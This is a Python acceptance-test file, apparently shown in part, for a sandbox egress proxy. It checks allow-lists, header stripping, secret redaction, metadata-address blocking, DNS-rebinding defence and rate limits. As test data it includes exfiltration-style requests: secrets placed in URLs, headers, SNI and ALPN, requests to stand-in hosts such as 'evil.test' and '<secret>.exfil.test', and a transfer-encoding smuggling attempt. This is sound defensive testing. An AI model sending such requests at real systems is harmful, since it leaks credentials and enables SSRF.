"""Acceptance: real clients inside a sandbox, real proxy, recording upstreams on loopback."""

from __future__ import annotations

import base64
import json
import socket

import pytest

from codedojo.egress.audit import read_audit
from codedojo.egress.strip import redaction_marker
from tests.egress.clients import PYTHON, curl, py_requests
from tests.egress.conftest import needs_root, upstream_policy

pytestmark = needs_root

SECRET = "sk-live-7f3a9c2e1b"
SENSITIVE = {
    "Authorization": "Bearer auth-token-value",
    "Proxy-Authorization": "Basic cHJveHk6cGFzcw==",
    "Cookie": "sid=cookie-value",
    "Set-Cookie": "a=set-cookie-value",
    "X-Api-Key": "api-key-value",
    "X-Amz-Security-Token": "amz-token-value",
    "X-Custom-Session": "pattern-header-value",  # matched by a configured pattern
}


def _urls(env: dict, host: str = "up.test") -> dict[str, str]:
    return {
        "http": f"http://{host}:{env['http'].port}",
        "https": f"https://{host}:{env['https'].port}",
    }


def _received_paths(up) -> list[str]:
    return [r.path for r in up.received]


@pytest.mark.parametrize("mode", ["explicit", "transparent"])
def test_allowed_host_passes_for_every_client(egress_env, sandbox, mode):
    proxy = egress_env["proxy"]
    sb = sandbox(
        proxy.attachment(upstream_policy(egress_env["http"], egress_env["https"]), mode=mode)
    )
    if mode == "transparent":
        assert not any("proxy" in k.lower() for k in sb.env), sb.env
    for scheme, base in _urls(egress_env).items():
        up = egress_env[scheme]
        status, body = curl(sb, f"{base}/curl-{mode}")
        assert status == 200 and f"{scheme} upstream ok" in body, body
        assert f"/curl-{mode}" in _received_paths(up)
        if scheme == "https":  # HTTP/2 to the proxy, HTTP/1.1 on to the upstream
            r = sb.exec(["curl", "-sS", "--http2", "-o", "/dev/null", "-w", "%{http_version}",
                         f"{base}/h2-{mode}"])  # fmt: skip
            assert r.stdout == "2", (r.stdout, r.stderr)
            assert f"/h2-{mode}" in _received_paths(up)
        clients = ("requests", "httpx", "urllib")
        outs = py_requests(sb, [(c, f"{base}/{c}-{mode}") for c in clients])
        for client, out in zip(clients, outs, strict=True):
            assert out.get("status") == 200, (client, out)
            assert f"/{client}-{mode}" in _received_paths(up)
    records = read_audit(proxy.audit_path(sb.id))
    ok = [r for r in records if r["status"] == 200]
    assert len(ok) == 9 and all(r["host"] == "up.test" and r["mode"] == mode for r in ok)
    assert all(r["ip"] == "127.0.0.1" and r["override"] for r in ok)
    assert {r["scheme"] for r in ok} == {"http", "https"}


@pytest.mark.parametrize("mode", ["explicit", "transparent"])
def test_denied_host_and_method_get_403_saying_why(egress_env, sandbox, mode):
    proxy, http_up = egress_env["proxy"], egress_env["http"]
    sb = sandbox(proxy.attachment(upstream_policy(http_up, egress_env["https"]), mode=mode))
    for scheme, base in _urls(egress_env, "denied.test").items():
        status, body = curl(sb, f"{base}/x")
        assert status == 403, (scheme, body)
        if not (mode == "explicit" and scheme == "https"):  # curl hides a CONNECT's body
            assert "'denied.test' is not in the allow-list" in body, body
        (out,) = py_requests(sb, [("requests", f"{base}/x")])
        assert out.get("status") == 403 or "403" in out.get("error", ""), out
    before = len(http_up.received)
    status, body = curl(sb, f"{_urls(egress_env)['http']}/del", "-X", "DELETE")
    assert status == 403 and "method DELETE is not allowed" in body
    assert len(http_up.received) == before
    blocked = [r for r in read_audit(proxy.audit_path(sb.id)) if r["blocked"]]
    assert any("allow-list" in r["blocked"] and r["host"] == "denied.test" for r in blocked)
    assert any(r["method"] == "DELETE" and "method" in r["blocked"] for r in blocked)


@pytest.mark.parametrize("mode", ["explicit", "transparent"])
def test_sensitive_headers_and_secrets_never_reach_upstream(egress_env, sandbox, mode):
    proxy = egress_env["proxy"]
    policy = upstream_policy(
        egress_env["http"], egress_env["https"], strip_header_patterns=["x-custom-*"]
    )
    sb = sandbox(proxy.attachment(policy, mode=mode, secrets={"OPENAI_KEY": SECRET}))
    headers = {**SENSITIVE, "X-Forwarded-Note": f"key={SECRET}"}
    for scheme, base in _urls(egress_env).items():
        up = egress_env[scheme]
        start = len(up.received)
        url = f"{base}/leak?token={SECRET}&q=1"
        args = [a for k, v in headers.items() for a in ("-H", f"{k}: {v}")]
        status, _ = curl(sb, url, *args, "--data-binary", f'{{"key": "{SECRET}"}}')
        assert status == 200
        (out,) = py_requests(sb, [("httpx", url, "POST", headers, f"k={SECRET}&x=1")])
        assert out.get("status") == 200, out
        got = up.received[start:]
        assert len(got) == 2
        blob = b"".join(
            f"{r.path}\n{r.headers}\n".encode() + r.body for r in got
        )  # everything the upstream saw of these requests
        for name, value in SENSITIVE.items():
            assert value.encode() not in blob, (name, blob)
            assert all(name.lower() not in (h.lower() for h in r.headers) for r in got), name
        assert SECRET.encode() not in blob
        marker = redaction_marker("OPENAI_KEY")
        assert all(marker in r.path for r in got)
        assert all(marker.encode() in r.body for r in got)
        notes = [{k.lower(): v for k, v in r.headers.items()}["x-forwarded-note"] for r in got]
        assert all(n == f"key={marker}" for n in notes), notes
    records = [r for r in read_audit(proxy.audit_path(sb.id)) if r["status"] == 200]
    assert records and all(
        set(r["stripped_headers"]) >= {h.lower() for h in SENSITIVE} for r in records
    )
    assert all(
        set(r["redacted_secrets"]["OPENAI_KEY"]) == {"url", "body", "header:x-forwarded-note"}
        for r in records
    )
    audit_text = proxy.audit_path(sb.id).read_text()
    assert SECRET not in audit_text


def test_set_cookie_never_reaches_the_sandbox(egress_env, sandbox):
    sb = sandbox(
        egress_env["proxy"].attachment(upstream_policy(egress_env["http"], egress_env["https"]))
    )
    r = sb.exec(["curl", "-sS", "-D", "-", "-o", "/dev/null", f"{_urls(egress_env)['http']}/c"])
    assert " 200" in r.stdout and "set-cookie" not in r.stdout.lower(), r.stdout


@pytest.mark.parametrize("mode", ["explicit", "transparent"])
def test_private_and_metadata_addresses_are_blocked(egress_env, sandbox, mode):
    http_up, https_up = egress_env["http"], egress_env["https"]
    port = http_up.port
    policy = upstream_policy(
        http_up, https_up,
        allow_hosts=["*"],
        hosts={"up.test": "127.0.0.1", "meta.test": "169.254.169.254", "intranet.test": "10.1.2.3"},
        allow_addresses=[],  # the same upstream as the other tests, without the override
    )  # fmt: skip
    sb = sandbox(egress_env["proxy"].attachment(policy, mode=mode))
    before = len(http_up.received)
    cases = {
        f"http://up.test:{port}/": "127.0.0.1 is a loopback address",
        f"http://meta.test:{port}/latest/meta-data/": "169.254.169.254 is a link-local",
        f"http://intranet.test:{port}/": "10.1.2.3 is a private address",
    }
    if mode == "explicit":
        # The proxy resolves `localhost` with the host's resolver (/etc/hosts); in transparent
        # mode the sandbox resolves it to its own loopback, which never leaves the sandbox.
        cases[f"http://localhost:{port}/"] = "is a loopback address"
        # An address literal only leaves through the proxy when the proxy is named.
        cases[f"http://169.254.169.254:{port}/"] = "169.254.169.254 is a link-local"
        cases[f"http://127.0.0.1:{port}/"] = "127.0.0.1 is a loopback address"
    for url, why in cases.items():
        status, body = curl(sb, url)
        assert status == 403 and why in body, (url, body)
    status, _ = curl(sb, f"https://meta.test:{https_up.port}/")
    assert status == 403
    assert len(http_up.received) == before  # nothing got through


def test_override_is_exact_and_without_it_the_upstream_is_blocked(egress_env, sandbox):
    http_up, https_up = egress_env["http"], egress_env["https"]
    proxy = egress_env["proxy"]
    url = f"http://up.test:{http_up.port}/override"
    with_override = sandbox(proxy.attachment(upstream_policy(http_up, https_up)))
    assert curl(with_override, url)[0] == 200
    # Same policy, override naming another port of the same address: still blocked.
    other = upstream_policy(http_up, https_up, allow_addresses=[f"127.0.0.1:{https_up.port}"])
    assert curl(sandbox(proxy.attachment(other)), url)[0] == 403
    without = sandbox(proxy.attachment(upstream_policy(http_up, https_up, allow_addresses=[])))
    status, body = curl(without, url)
    assert status == 403 and "loopback" in body


def test_dns_rebinding_cannot_switch_the_checked_address(egress_env, sandbox, monkeypatch):
    """The proxy resolves once, checks, and connects to that address: a second answer that
    points elsewhere is never used for the connection, and is itself checked next time."""
    http_up, https_up = egress_env["http"], egress_env["https"]
    real = socket.getaddrinfo
    answers = iter(["127.0.0.1"] + ["127.0.0.2"] * 10)
    calls: list[str] = []

    def rebinding(host, port, *args, **kw):
        if host == "rebind.test":
            ip = next(answers)
            calls.append(ip)
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (ip, port))]
        return real(host, port, *args, **kw)

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    policy = upstream_policy(http_up, https_up, hosts={})  # rebind.test goes through "DNS"
    sb = sandbox(egress_env["proxy"].attachment(policy, mode="explicit"))
    for scheme, up in (("http", http_up), ("https", https_up)):
        status, body = curl(sb, f"{scheme}://rebind.test:{up.port}/first")
        if scheme == "http":
            assert status == 200, body  # checked 127.0.0.1 (override), connected there
            assert calls == ["127.0.0.1"]
        else:
            assert status == 403  # the CONNECT was refused: the name now resolves to 127.0.0.2
    status, body = curl(sb, f"http://rebind.test:{http_up.port}/second")
    assert status == 403 and "resolves to 127.0.0.2" in body


def test_limits_and_rate(egress_env, sandbox):
    http_up, https_up = egress_env["http"], egress_env["https"]
    policy = upstream_policy(
        http_up, https_up, max_request_bytes=1000, max_response_bytes=5000,
        rate_limit_rps=0.5, rate_limit_burst=5,
    )  # fmt: skip
    sb = sandbox(egress_env["proxy"].attachment(policy))
    base = _urls(egress_env)["http"]
    status, body = curl(sb, f"{base}/post", "--data-binary", "x" * 5000)
    assert status == 413 and "max_request_bytes=1000" in body
    status, body = curl(sb, f"{base}/big/20000")
    assert status == 502 and "max_response_bytes=5000" in body
    assert curl(sb, f"{base}/big/100")[0] == 200
    codes = [curl(sb, f"{base}/r{i}")[0] for i in range(4)]
    assert 429 in codes, codes
    records = read_audit(egress_env["proxy"].audit_path(sb.id))
    assert any(r["status"] == 429 and "rate limit" in r["blocked"] for r in records)


def test_each_sandbox_gets_its_own_policy_and_log(egress_env, sandbox):
    http_up, https_up = egress_env["http"], egress_env["https"]
    proxy = egress_env["proxy"]
    a = sandbox(proxy.attachment(upstream_policy(http_up, https_up)))
    b = sandbox(proxy.attachment(upstream_policy(http_up, https_up, allow_hosts=["other.test"])))
    url = f"http://up.test:{http_up.port}/who"
    assert curl(a, url)[0] == 200
    assert curl(b, url)[0] == 403
    ra, rb = read_audit(proxy.audit_path(a.id)), read_audit(proxy.audit_path(b.id))
    assert [r["status"] for r in ra] == [200] and [r["status"] for r in rb] == [403]
    assert {r["sandbox"] for r in ra} == {a.id} and {r["sandbox"] for r in rb} == {b.id}


def test_non_http_and_other_ports_do_not_leave(egress_env, sandbox):
    http_up, https_up = egress_env["http"], egress_env["https"]
    proxy = egress_env["proxy"]
    t = sandbox(proxy.attachment(upstream_policy(http_up, https_up), mode="transparent"))
    # Raw bytes that are neither HTTP nor TLS: the transparent listener refuses the stream.
    code = (
        f"import socket; s=socket.create_connection(('up.test', {http_up.port}), timeout=5); "
        "s.sendall(b'\\x00\\x01garbage-not-http\\r\\n\\r\\n'); print(repr(s.recv(100)))"
    )
    r = t.exec([PYTHON, "-c", code])
    assert "garbage" not in r.stdout
    assert all(not r.body.startswith(b"\x00") for r in http_up.received)
    # Explicit mode: only the proxy port of the gateway answers; a direct connection is refused.
    e = sandbox(proxy.attachment(upstream_policy(http_up, https_up), mode="explicit"))
    r = e.exec(["curl", "-sS", "-m", "5", "--noproxy", "*", f"http://{_gateway(e)}:22/"])
    assert r.exit_code != 0


def _gateway(sb) -> str:
    return sb.env["HTTP_PROXY"].split("//", 1)[1].rsplit(":", 1)[0]


def test_bad_input_gets_errors_and_the_proxy_keeps_serving(egress_env, sandbox):
    http_up, https_up = egress_env["http"], egress_env["https"]
    sb = sandbox(
        egress_env["proxy"].attachment(upstream_policy(http_up, https_up), mode="explicit")
    )
    host, port = sb.env["HTTP_PROXY"].split("//", 1)[1].rsplit(":", 1)
    payloads = {
        "garbage": b"\x16\x00garbage\r\n\r\n",
        "bad request line": b"GET\r\n\r\n",
        "oversized header": b"GET http://up.test/ HTTP/1.1\r\nHost: up.test\r\nX-Big: "
        + b"a" * 300_000
        + b"\r\n\r\n",
        "connect without port": b"CONNECT up.test HTTP/1.1\r\nHost: up.test\r\n\r\n",
        "connect bad port": b"CONNECT up.test:99999 HTTP/1.1\r\n\r\n",
        "connect bad host": b"CONNECT [::zz]:443 HTTP/1.1\r\n\r\n",
        "connect empty": b"CONNECT :443 HTTP/1.1\r\n\r\n",
        "no host": b"GET /relative HTTP/1.1\r\n\r\n",
    }
    # Each payload on its own connection, then a normal request on a fresh one: all in one
    # process inside the sandbox (starting Python is the slow part).
    script = r"""
import json, socket, sys
host, port, target = sys.argv[1], int(sys.argv[2]), sys.argv[3]
def exchange(payload):
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(payload)
    data = b""
    try:
        while b"\r\n\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    s.close()
    return data.split(b"\r\n", 1)[0].decode("latin-1")
out = {}
for name, payload in json.loads(sys.stdin.read()).items():
    first = exchange(payload.encode("latin-1"))
    after = exchange(f"GET http://{target}/after HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    out[name] = [first, after]
print(json.dumps(out))
"""
    target = f"up.test:{http_up.port}"
    blob = json.dumps({k: v.decode("latin-1") for k, v in payloads.items()}).encode()
    r = sb.exec([PYTHON, "-c", script, host, port, target], stdin=blob, timeout=120)
    assert r.exit_code == 0, r.stderr
    results = json.loads(r.stdout.strip().splitlines()[-1])
    for name, (first, after) in results.items():
        assert first.startswith(("HTTP/1.1 4", "HTTP/1.0 4")), (name, first)
        assert after.startswith("HTTP/1.1 200"), (name, after)  # ...and it keeps serving
    assert len([p for p in http_up.received if p.path == "/after"]) >= len(payloads)


def test_a_sandbox_gone_without_detaching_gives_its_link_back(egress_env, provider, sandbox):
    """Its owner killed, `gc` cleans the sandbox but cannot reach the proxy: the proxy takes
    the link back (rules, registry entry, audit log, /30) once the namespace has gone."""
    import subprocess

    http_up, https_up = egress_env["http"], egress_env["https"]
    proxy = egress_env["proxy"]
    box = sandbox(proxy.attachment(upstream_policy(http_up, https_up)))
    link = proxy.network.links[box.id]
    rules = subprocess.run(["iptables", "-S", proxy.network.chain_in], capture_output=True,
                           text=True).stdout
    assert link.sandbox_ip in rules
    subprocess.run(["ip", "link", "del", link.host_if], check=True)  # as the kernel does
    assert proxy.reap() == [box.id]
    assert box.id not in proxy.network.links and len(proxy.registry) == 0
    rules = subprocess.run(["iptables", "-S", proxy.network.chain_in], capture_output=True,
                           text=True).stdout
    assert link.sandbox_ip not in rules
    again = sandbox(proxy.attachment(upstream_policy(http_up, https_up)))  # a slot to reuse
    assert proxy.network.links[again.id].sandbox_ip == link.sandbox_ip
    assert curl(again, f"http://up.test:{http_up.port}/who")[0] == 200


# Raw exchanges from inside a sandbox, each on its own connection: {"host", "port", "payload"
# (base64), "connect" (a CONNECT target to open first), "sni" (TLS with this name)}; prints
# one JSON list of what came back.
RAW_SCRIPT = r"""
import base64, json, re, socket, ssl, sys
out = []
for x in json.loads(sys.stdin.read()):
    s = socket.create_connection((x["host"], x["port"]), timeout=10)
    if x.get("connect"):
        s.sendall(f"CONNECT {x['connect']} HTTP/1.1\r\nHost: {x['connect']}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            head += s.recv(1)
    if x.get("sni"):
        ctx = ssl.create_default_context(cafile="/etc/codedojo-egress-ca.pem")
        s = ctx.wrap_socket(s, server_hostname=x["sni"])
    s.sendall(base64.b64decode(x["payload"]))
    data = b""
    while True:
        try:
            chunk = s.recv(65536)
        except OSError:
            break
        data += chunk
        head, sep, body = data.partition(b"\r\n\r\n")
        n = re.search(rb"(?i)\ncontent-length: *(\d+)", head)
        if not chunk or (sep and n and len(body) >= int(n[1])):
            break
    out.append(data.decode("latin-1"))
print(json.dumps(out))
"""


def _raw(sb, exchanges: list[dict]) -> list[str]:
    blob = [{**x, "payload": base64.b64encode(x["payload"]).decode()} for x in exchanges]
    r = sb.exec([PYTHON, "-c", RAW_SCRIPT], stdin=json.dumps(blob).encode(), timeout=60)
    assert r.exit_code == 0, r.stderr
    return json.loads(r.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("mode", ["explicit", "transparent"])
def test_an_absolute_form_target_must_name_the_checked_host(egress_env, sandbox, mode):
    """Sent to an allowed host (transparent mode, or inside a CONNECT tunnel), a request
    target in absolute form names a host of its own: another host, or a secret in one, is
    refused; the checked host's own goes upstream in origin form."""
    http_up, https_up = egress_env["http"], egress_env["https"]
    proxy = egress_env["proxy"]
    sb = sandbox(proxy.attachment(upstream_policy(http_up, https_up), mode=mode,
                                  secrets={"KEY": SECRET}))  # fmt: skip
    hp, sp = http_up.port, https_up.port
    if mode == "transparent":
        tls = {"host": "up.test", "port": sp, "sni": "up.test"}
    else:
        tls = {"host": _gateway(sb), "port": proxy.ports.explicit, "connect": f"up.test:{sp}",
               "sni": "up.test"}  # fmt: skip

    def get(target: str, port: int) -> bytes:
        return f"GET {target} HTTP/1.1\r\nHost: up.test:{port}\r\n\r\n".encode()

    exchanges = [
        {**tls, "payload": get("https://evil.test/abs-other", sp)},
        {**tls, "payload": get(f"https://{SECRET}.exfil.test/abs-secret", sp)},
        {**tls, "payload": get(f"https://up.test:{sp}/abs-own", sp)},
    ]
    if mode == "transparent":
        plain = {"host": "up.test", "port": hp}
        exchanges += [{**plain, "payload": get("http://evil.test/abs-other", hp)},
                      {**plain, "payload": get(f"http://up.test:{hp}/abs-own", hp)}]  # fmt: skip
    before = len(http_up.received), len(https_up.received)
    out = _raw(sb, exchanges)
    for o, x in zip(out, exchanges, strict=True):
        if b"abs-own" in x["payload"]:
            assert o.startswith("HTTP/1.1 200"), o
        else:
            assert o.startswith("HTTP/1.1 403") and "does not match the destination" in o, o
    got = http_up.received[before[0]:] + https_up.received[before[1]:]
    assert [r.path for r in got] == ["/abs-own"] * (2 if mode == "transparent" else 1)
    records = read_audit(proxy.audit_path(sb.id))
    refused = [r for r in records if r["status"] == 403]
    assert refused and all(r["host"] == "up.test" for r in records if r["method"] == "GET")
    assert any("'evil.test'" in r["blocked"] for r in refused)
    assert SECRET not in proxy.audit_path(sb.id).read_text()


def test_a_body_under_another_transfer_coding_is_refused(egress_env, sandbox):
    """`Transfer-Encoding: gzip, chunked`: the upstream would inflate a body the proxy's checks
    never read (a secret in it left as it was)."""
    import gzip

    http_up, https_up = egress_env["http"], egress_env["https"]
    proxy = egress_env["proxy"]
    sb = sandbox(proxy.attachment(upstream_policy(http_up, https_up), mode="transparent",
                                  secrets={"KEY": SECRET}))  # fmt: skip
    gz = gzip.compress(f'{{"key": "{SECRET}"}}'.encode())
    payload = (f"POST /te-gzip HTTP/1.1\r\nHost: up.test:{http_up.port}\r\n"
               "Transfer-Encoding: gzip, chunked\r\n\r\n").encode()  # fmt: skip
    payload += b"%x\r\n%s\r\n0\r\n\r\n" % (len(gz), gz)
    before = len(http_up.received)
    (out,) = _raw(sb, [{"host": "up.test", "port": http_up.port, "payload": payload}])
    assert out.startswith("HTTP/1.1 501") and "transfer-encoding" in out, out
    assert len(http_up.received) == before
    (rec,) = read_audit(proxy.audit_path(sb.id))
    assert rec["status"] == 501 and "transfer-encoding" in rec["blocked"]


def test_the_sandboxs_alpn_names_do_not_go_upstream(egress_env, sandbox):
    """The proxy's TLS hello to the upstream offers HTTP/2 and HTTP/1.1 at most, whatever
    names the sandbox's hello offered (they go in clear text: a secret could ride in one)."""
    import threading

    http_up, https_up = egress_env["http"], egress_env["https"]
    hellos: list[bytes] = []
    srv = socket.create_server(("127.0.0.1", 0))

    def record() -> None:  # the upstream's first bytes: the proxy's TLS ClientHello
        conn, _ = srv.accept()
        with conn:
            conn.settimeout(5)
            data = b""
            while len(data) < 5 or len(data) < 5 + int.from_bytes(data[3:5], "big"):
                chunk = conn.recv(65536)
                if not chunk:
                    break
                data += chunk
            hellos.append(data)

    threading.Thread(target=record, daemon=True).start()
    port = srv.getsockname()[1]
    policy = upstream_policy(http_up, https_up, allow_hosts=["raw.test"], allow_ports=[port],
                             hosts={"raw.test": "127.0.0.1"},
                             allow_addresses=[f"127.0.0.1:{port}"])  # fmt: skip
    sb = sandbox(egress_env["proxy"].attachment(policy, secrets={"KEY": SECRET}))
    client = (
        "import socket, ssl, sys\n"
        "ctx = ssl.create_default_context(cafile='/etc/codedojo-egress-ca.pem')\n"
        "ctx.set_alpn_protocols(['x-' + sys.argv[2], 'http/1.1'])\n"
        "s = ctx.wrap_socket(socket.create_connection(('raw.test', int(sys.argv[1]))),\n"
        "                    server_hostname='raw.test')\n"
        "s.sendall(b'GET /alpn HTTP/1.1\\r\\nHost: raw.test\\r\\n\\r\\n')\n"
        "s.recv(100)\n"
    )
    try:
        sb.exec([PYTHON, "-c", client, str(port), SECRET])
    finally:
        srv.close()
    (hello,) = hellos
    assert hello[:1] == b"\x16" and b"http/1.1" in hello
    assert SECRET.encode() not in hello


def test_a_secret_in_an_aborted_tls_handshakes_name_is_not_logged(egress_env, sandbox):
    """A sandbox that gives up on the proxy's certificate is logged with mitmproxy's reason,
    which quotes the TLS SNI: redacted like the host."""
    import time

    http_up, https_up = egress_env["http"], egress_env["https"]
    proxy = egress_env["proxy"]
    sb = sandbox(proxy.attachment(upstream_policy(http_up, https_up), mode="transparent",
                                  secrets={"KEY": SECRET}))  # fmt: skip
    client = (
        "import socket, ssl, sys\n"
        "ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # trusts no CA: it aborts\n"
        "try:\n"
        "    ctx.wrap_socket(socket.create_connection(('up.test', int(sys.argv[1]))),\n"
        "                    server_hostname=sys.argv[2])\n"
        "except ssl.SSLError:\n"
        "    pass\n"
    )
    sb.exec([PYTHON, "-c", client, str(https_up.port), f"{SECRET}.up.test"])
    for _ in range(100):  # the proxy logs it once it has seen the alert
        records = read_audit(proxy.audit_path(sb.id))
        if records:
            break
        time.sleep(0.05)
    (rec,) = records
    assert rec["method"] == "TLS" and "__REDACTED_KEY__.up.test" in rec["error"]
    assert SECRET not in proxy.audit_path(sb.id).read_text()


def test_a_response_too_large_is_logged_as_withheld_not_as_a_blocked_request(egress_env, sandbox):
    http_up, https_up = egress_env["http"], egress_env["https"]
    proxy = egress_env["proxy"]
    policy = upstream_policy(http_up, https_up, max_response_bytes=5000)
    sb = sandbox(proxy.attachment(policy))
    status, _ = curl(sb, f"http://up.test:{http_up.port}/big/20000", "--data-binary", "x" * 800)
    assert status == 502 and http_up.received[-1].body == b"x" * 800
    (rec,) = read_audit(proxy.audit_path(sb.id))
    assert rec["blocked"] is None and rec["bytes_out"] == 800
    assert "max_response_bytes=5000" in rec["response_refused"]



def test_sandbox_names_that_read_alike_as_file_names_keep_their_own_audit_logs():
    """``a/b`` and ``a_b`` (ids come from the control API too) do not share one log."""
    from codedojo.egress.proxy import _safe

    assert _safe("sb-1.x") == "sb-1.x"
    names = ("a/b", "a_b", "a:b", "..", "", "a%2Fb", "a_b-c14cddc033f6", "a_b-" + "0" * 12)
    assert len({_safe(n) for n in names}) == len(names)
    assert all(_safe(n) not in ("", ".", "..") and "/" not in _safe(n) for n in ("..", "", "/"))


@pytest.mark.parametrize("mode", ["explicit", "transparent"])
def test_a_request_mitmproxy_refuses_as_malformed_is_audited(egress_env, sandbox, mode):
    """mitmproxy answers a request line or header block it cannot parse itself, before any
    request hook; the sandbox's audit log still gets a record saying why (redacted), when the
    connection closes, as it does for a request that names no host (answered unlogged). A
    connection that sends nothing gets none."""
    import time

    http_up, https_up = egress_env["http"], egress_env["https"]
    proxy = egress_env["proxy"]
    sb = sandbox(proxy.attachment(upstream_policy(http_up, https_up), mode=mode,
                                  secrets={"KEY": SECRET}))  # fmt: skip
    if mode == "explicit":
        to = {"host": _gateway(sb), "port": proxy.ports.explicit}
    else:
        to = {"host": "up.test", "port": http_up.port}
    payloads = {
        "Bad HTTP request line": f"GET /?k={SECRET}\r\n\r\n".encode(),
        "Invalid header line": b"GET / HTTP/1.1\r\nHost: up.test\r\nno-colon-here\r\n\r\n",
    }
    if mode == "explicit":
        payloads["names no host"] = b"GET /relative HTTP/1.1\r\n\r\n"
    idle = "import socket, sys\nsocket.create_connection((sys.argv[1], int(sys.argv[2]))).close()"
    assert sb.exec([PYTHON, "-c", idle, to["host"], str(to["port"])]).exit_code == 0
    out = _raw(sb, [{**to, "payload": p} for p in payloads.values()])
    assert all(o.startswith("HTTP/1.1 400") for o in out), out
    path = proxy.audit_path(sb.id)
    for _ in range(50):  # written when mitmproxy has closed each connection
        records = read_audit(path)
        if len(records) >= len(payloads):
            break
        time.sleep(0.1)
    assert len(records) == len(payloads), records
    for why, r in zip(payloads, records, strict=True):
        assert r["sandbox"] == sb.id and r["mode"] == mode and why in r["blocked"], r
    assert redaction_marker("KEY") in records[0]["blocked"]
    assert SECRET not in path.read_text()


# A WebSocket client in the sandbox (no package there speaks it): sends text messages one at a
# time, each awaiting its echo; prints the echoes, and "closed" once the connection ends.
WS_CLIENT = r"""
import base64, json, os, socket, sys
s = socket.create_connection(("ws.test", int(sys.argv[1])), timeout=10)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall((f"GET /ws HTTP/1.1\r\nHost: ws.test:{sys.argv[1]}\r\nUpgrade: websocket\r\n"
           f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
           "Sec-WebSocket-Version: 13\r\n\r\n").encode())
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
out = [head.split(b" ")[1].decode()]  # the status code

def read(n):
    data = b""
    while len(data) < n:
        chunk = s.recv(n - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data

for i in range(int(sys.argv[2])):
    payload, mask = f"{i} {sys.argv[3]}".encode(), os.urandom(4)
    try:
        s.sendall(bytes([0x81, 0x80 | len(payload)]) + mask
                  + bytes(b ^ mask[j % 4] for j, b in enumerate(payload)))
        first, size = read(2)
        if first & 0x0F == 8:  # a close frame
            raise ConnectionError("closed")
        out.append(read(size & 0x7F).decode())
    except TimeoutError:  # neither an echo nor the end of the connection came
        out.append("no answer")
        break
    except OSError:
        out.append("closed")
        break
print(json.dumps(out))
"""


def _websocket_upstream(received: list[str]) -> socket.socket:
    """A WebSocket upstream on loopback for one connection: echoes each text message, which
    it appends to ``received``."""
    import threading

    from wsproto import ConnectionType, WSConnection
    from wsproto.events import AcceptConnection, CloseConnection, Message, Request, TextMessage

    srv = socket.create_server(("127.0.0.1", 0))

    def echo() -> None:
        conn, _ = srv.accept()
        ws = WSConnection(ConnectionType.SERVER)
        with conn:
            while data := conn.recv(65536):
                ws.receive_data(data)
                for event in ws.events():
                    if isinstance(event, Request):
                        conn.sendall(ws.send(AcceptConnection()))
                    elif isinstance(event, TextMessage):
                        received.append(event.data)
                        conn.sendall(ws.send(Message(data=event.data)))
                    elif isinstance(event, CloseConnection):
                        return

    threading.Thread(target=echo, daemon=True).start()
    return srv


def _websocket_policy(egress_env, port: int, **kw):
    """A policy that lets the sandbox reach the WebSocket upstream at ws.test:``port``."""
    return upstream_policy(egress_env["http"], egress_env["https"], allow_hosts=["ws.test"],
                           allow_ports=[port], hosts={"ws.test": "127.0.0.1"},
                           allow_addresses=[f"127.0.0.1:{port}"], **kw)


def _websocket_upgrade(port: int) -> bytes:
    return (f"GET /ws HTTP/1.1\r\nHost: ws.test:{port}\r\nUpgrade: websocket\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
            "Sec-WebSocket-Version: 13\r\n\r\n").encode()


def test_a_websocket_past_the_rate_limit_is_closed_with_one_record(egress_env, sandbox):
    """Each message the sandbox sends spends its rate limit: past it the proxy closes the
    connection, the message that went past goes nowhere, and the log gets one record of it."""
    proxy = egress_env["proxy"]
    received: list[str] = []
    srv = _websocket_upstream(received)
    port = srv.getsockname()[1]
    policy = _websocket_policy(egress_env, port, rate_limit_rps=0.001, rate_limit_burst=3)
    sb = sandbox(proxy.attachment(policy, mode="transparent", secrets={"KEY": SECRET}))
    try:
        r = sb.exec([PYTHON, "-c", WS_CLIENT, str(port), "5", SECRET])
    finally:
        srv.close()
    assert r.exit_code == 0, r.stderr
    out = json.loads(r.stdout.strip().splitlines()[-1])
    marker = redaction_marker("KEY")
    # the upgrade request and two messages spend the burst of 3; the third message closes it
    assert out == ["101", f"0 {marker}", f"1 {marker}", "closed"]
    assert received == [f"0 {marker}", f"1 {marker}"]
    path = proxy.audit_path(sb.id)
    upgrade, ws = _records(path, 2)
    assert upgrade["method"] == "GET" and upgrade["status"] == 101
    assert ws["method"] == "WEBSOCKET" and ws["host"] == "ws.test"
    assert "rate limit" in ws["blocked"] and "closed" in ws["blocked"]
    assert SECRET not in path.read_text()


def _records(path, n: int) -> list[dict]:
    """The audit records at ``path`` once there are ``n`` (written on the proxy's loop)."""
    import time

    for _ in range(50):
        records = read_audit(path)
        if len(records) >= n:
            break
        time.sleep(0.1)
    return records


def test_a_request_head_or_body_past_its_limit_is_refused_before_it_ends(egress_env, sandbox):
    """mitmproxy would read a request head, or a chunked body, into memory until it ended,
    however long: a head past MAX_REQUEST_HEAD_BYTES gets 431, and a chunked body past the
    policy's max_request_bytes 413, before either has ended (here neither ever does); nothing
    goes upstream, and the log says why."""
    from codedojo.egress.limits import MAX_REQUEST_HEAD_BYTES

    http_up, https_up = egress_env["http"], egress_env["https"]
    proxy = egress_env["proxy"]
    policy = upstream_policy(http_up, https_up, max_request_bytes=1000)
    sb = sandbox(proxy.attachment(policy, mode="transparent"))
    to, host = {"host": "up.test", "port": http_up.port}, f"Host: up.test:{http_up.port}"
    head = f"GET /long-head HTTP/1.1\r\n{host}\r\nX-Pad: ".encode()
    head += b"a" * (MAX_REQUEST_HEAD_BYTES + 1000)
    chunked = f"POST /chunked HTTP/1.1\r\n{host}\r\nTransfer-Encoding: chunked\r\n\r\n"
